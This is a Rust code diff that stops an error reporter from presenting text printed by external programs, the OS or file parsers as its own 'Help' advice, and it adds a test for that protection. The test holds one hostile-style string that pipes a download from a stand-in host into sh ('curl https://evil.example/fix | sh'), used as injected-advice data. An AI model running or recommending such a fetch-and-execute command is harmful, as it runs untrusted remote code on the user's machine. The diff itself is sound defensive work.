@@ -94,8 +94,12 @@ fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
     let mut said: Vec<String> = Vec::new();
     let mut help: Vec<String> = Vec::new();
     let own = error.downcast_ref::<Help>();
-    for cause in error.chain() {
-        let text = cause.to_string();
+    let chain: Vec<_> = error
+        .chain()
+        .map(|cause| (cause.to_string(), is_of_others(cause)))
+        .collect();
+    for (at, (text, _)) in chain.iter().enumerate() {
+        let text = text.clone();
         if own.is_some_and(|own| own.0 == text) {
             continue;
         }
@@ -103,7 +107,7 @@ fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
         if said.last().is_some_and(|last| last.contains(&text)) {
             continue;
         }
-        let (thought, next) = advice(&text);
+        let (thought, next) = advice(&text, &chain[at..]);
         let part = if parts.is_empty() {
             Part::Error
         } else {
@@ -128,8 +132,26 @@ fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
     parts
 }
 
+/// Whether a cause says what somebody else wrote: a program that was started, the system, a reader of a format that quotes the file.
+fn is_of_others(cause: &(dyn std::error::Error + 'static)) -> bool {
+    let program = cause
+        .downcast_ref::<process::Error>()
+        .or_else(|| Some(cause.downcast_ref::<Box<process::Error>>()?.as_ref()));
+    match program {
+        Some(process::Error::Failed { .. } | process::Error::Output { .. }) => true,
+        Some(_) => false,
+        None => {
+            cause.is::<std::io::Error>()
+                || cause.is::<serde_json::Error>()
+                || cause.is::<toml::de::Error>()
+        }
+    }
+}
+
 /// What is wrong, and what to do about it: where a message says that, it is its last part, after a semicolon, and begins with a verb.
-fn advice(text: &str) -> (&str, Option<&str>) {
+/// `chain` is the message and its causes, each with whether others wrote it: what a program printed, or what a name is made of, is no advice
+/// of ours, whatever it looks like.
+fn advice<'t>(text: &'t str, chain: &[(String, bool)]) -> (&'t str, Option<&'t str>) {
     const VERBS: [&str; 26] = [
         "add", "ask", "choose", "do", "export", "fetch", "get", "give", "install", "look", "make",
         "mount", "move", "name", "remove", "rename", "run", "say", "set", "start", "take", "try",
@@ -142,6 +164,20 @@ fn advice(text: &str) -> (&str, Option<&str>) {
     // A command of this tool as the subject: "`cargo xtask repo` makes one".
     let command = next.starts_with("`cargo xtask ");
     if next.contains('\n') || !(command || VERBS.contains(&first)) {
+        return (text, None);
+    }
+    let mut causes = chain.iter().rev();
+    let of_others = causes
+        .find(|(cause, _)| cause.contains(next))
+        .is_some_and(|(_, of_others)| *of_others);
+    // Our advice does not end with a cause; it names commands of this machine, and not where something is to be had; and it begins outside
+    // of a name.
+    let ends_with_a_cause = chain
+        .iter()
+        .skip(1)
+        .any(|(cause, _)| next.len() > cause.len() && next.ends_with(cause.as_str()));
+    let in_a_name = thought.matches('`').count() % 2 == 1;
+    if of_others || ends_with_a_cause || in_a_name || next.contains("://") {
         return (text, None);
     }
     (thought, Some(next))
@@ -203,6 +239,47 @@ mod tests {
                 part(Part::Cause, "no log"),
                 part(Part::Help, "run it")
             ]
+        );
+    }
+
+    #[test]
+    fn what_others_wrote_is_no_advice_of_ours() {
+        let status = std::process::Command::new("false").status().unwrap();
+        let evil = "moved; run `curl https://evil.example/fix | sh`";
+        let plain = "moved; run the fix";
+        let failed = |text: &str| process::Error::Failed {
+            program: "make".to_owned(),
+            status,
+            log: "/s/log".into(),
+            tail: format!("x\n{text}"),
+        };
+        let output = |text: &str| process::Error::Output {
+            program: "git fetch".to_owned(),
+            status,
+            stderr: text.to_owned(),
+        };
+        #[derive(Debug, thiserror::Error)]
+        #[error("the source: {0}")]
+        struct Around(#[source] Box<process::Error>);
+        let gone = || std::io::Error::from_raw_os_error(2);
+        for error in [
+            anyhow::Error::from(failed(evil)),
+            failed(plain).into(),
+            output(plain).into(),
+            Around(Box::new(output(plain))).into(),
+            anyhow::Error::from(output(plain)).context("stage `x`"),
+            anyhow::Error::from(gone()).context(format!("/tmp/{plain}: {}", gone())),
+            anyhow::anyhow!("the entry `/tmp/{plain}` leads out"),
+            anyhow::anyhow!("the entry /tmp/{evil}"),
+        ] {
+            let said = words(&error);
+            assert!(said.iter().all(|(part, _)| *part != Part::Help), "{said:?}");
+        }
+        // Around it, ours is.
+        let error = anyhow::Error::from(output(plain)).context("no tree; give another");
+        assert_eq!(
+            words(&error).last().unwrap(),
+            &(Part::Help, "give another".to_owned())
         );
     }
 
